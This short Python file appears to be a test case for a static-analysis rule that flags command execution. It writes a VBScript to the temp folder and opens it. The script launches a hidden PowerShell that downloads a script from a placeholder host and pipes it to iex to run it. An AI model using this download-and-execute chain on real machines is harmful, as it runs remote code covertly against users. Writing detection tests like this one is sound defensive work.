# Defanged model: a VBScript written to the temp folder and opened by its file association; the script
# starts a hidden PowerShell that downloads and runs a script.
import os
import tempfile

path = os.path.join(tempfile.gettempdir(), 'u.vbs')
open(path, 'w').write('CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr https://example.invalid/p.ps1|iex", 0')
# ruleid: code/command-execution
os.startfile(path)
